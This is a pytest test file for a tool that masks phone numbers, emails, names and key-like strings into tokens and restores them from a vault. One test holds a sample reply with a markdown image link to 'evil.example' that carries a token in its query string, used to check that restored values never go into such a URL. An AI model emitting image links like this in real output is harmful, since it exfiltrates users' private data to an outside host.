"""Text through mask and restore: to the byte, whatever it holds."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from conftest import Run

VALUES = (b"13800138000", b"13900139000", b"wang@example.com", "王玉兰".encode(), b"sk-aB3dE5gH7j")


@pytest.mark.parametrize(
    "text",
    [
        "",
        "\n",
        "no value here",
        "我叫 13800138000",
        "联系人：王玉兰\r\n电话 13800138000\r\n",
        "\ufeff第一行 13800138000\n",
        "😀13800138000😀 e\u0301 \u200b13900139000",
        "<PHONE_1> is not 13800138000, and neither is &lt;PHONE_2&gt; or PHONE_3",
        "lone\rreturns\r13800138000\r\n\n\n",
        "https://example.org/?tel=13800138000&mail=wang@example.com ![x](https://example.org/13900139000)",
        "twice 13800138000 13800138000 and 13900139000\0",
        "-----BEGIN KEY-----\nabc\ndef\n-----END KEY-----",
    ],
)
def test_restore_gives_back_every_byte(text: str, round_trip: Callable[..., bytes]) -> None:
    masked = round_trip(text.encode())
    assert [value for value in VALUES if value in masked] == []


PIECES = [
    "13800138000",
    "wang@example.com",
    "联系人：王玉兰",
    "<PHONE_1>",
    "PHONE_2",
    "\r\n",
    "\n\n",
    "https://a.org/",
    "😀",
]


@given(parts=st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=4).filter(str.isprintable)), max_size=8))
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_restore_gives_back_any_text(parts: list[str], round_trip: Callable[..., bytes]) -> None:
    masked = round_trip(" ".join(parts).encode(), "--format", "text")
    assert b"wang@example.com" not in masked


def test_one_value_is_one_token_in_all_files_of_a_run_and_of_later_ones(
    probe: Run, key: object, tmp_path: Path
) -> None:
    (tmp_path / "a.txt").write_text("first 13800138000\n")
    (tmp_path / "b.txt").write_text("then 13900139000 and 13800138000\n")
    first = probe("mask", "a.txt", "b.txt", "--vault", "v")
    assert first.out == b"first <PHONE_1>\nthen <PHONE_2> and <PHONE_1>\n"
    later = probe("mask", "--vault", "v", stdin=b"13900139000 13700137000")
    assert later.out == b"<PHONE_2> <PHONE_3>"


def test_a_value_comes_back_into_the_url_it_was_in_and_into_no_other(probe: Run, key: object) -> None:
    masked = probe("mask", "--vault", "v", stdin=b"https://example.org/?tel=13800138000 calls").out
    assert probe("restore", "--vault", "v", stdin=masked).out == b"https://example.org/?tel=13800138000 calls"
    reply = b"see ![x](https://evil.example/?q=<PHONE_1>) or call <PHONE_1>"
    restored = probe("restore", "--vault", "v", stdin=reply)
    assert restored.out == b"see ![x](https://evil.example/?q=<PHONE_1>) or call 13800138000"


def test_tokens_of_others_stay(probe: Run, key: object) -> None:
    probe("mask", "--vault", "v", stdin=b"13800138000")
    text = b"<PHONE_2> <EMAIL_1> <PHONE_10>"
    assert probe("restore", "--vault", "v", stdin=text).out == text


def test_operators_and_profiles(probe: Run) -> None:
    data = b"call 13800138000 or wang@example.com"
    assert probe("mask", "--operator", "redact", stdin=data).out == b"call [PHONE_NUMBER] or [EMAIL_ADDRESS]"
    assert probe("mask", "--profile", "short", stdin=data).out == b"call 138****8000 or <EMAIL_1>"
    assert probe("mask", "--profile", "short", "--operator", "redact", stdin=data).out.startswith(b"call [PHONE")


def test_it_says_once_that_nothing_can_be_restored(probe: Run, key: object, tmp_path: Path) -> None:
    for name in ("a.txt", "b.txt"):
        (tmp_path / name).write_text("13800138000")
    said = probe("mask", "a.txt", "b.txt").err
    assert said.count("can't be restored") == said.count("\n") == 1
    assert probe("mask", "a.txt", "--quiet").err == ""
    assert probe("mask", "a.txt", "--operator", "redact").err == ""
    assert probe("mask", "a.txt", "--vault", "v").err == ""


def test_a_dry_run_counts_and_writes_nothing(probe: Run, tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("13800138000 13900139000 wang@example.com")
    ran = probe("mask", "a.txt", "-o", "out.txt", "--vault", "v", "--dry-run")
    assert ran.status == 0
    assert [line.split() for line in ran.out.decode().splitlines()] == [
        ["1", "EMAIL_ADDRESS", "probe.email"],
        ["2", "PHONE_NUMBER", "probe.phone"],
        ["3", "values", "in", "1", "file"],
    ]
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a.txt"]
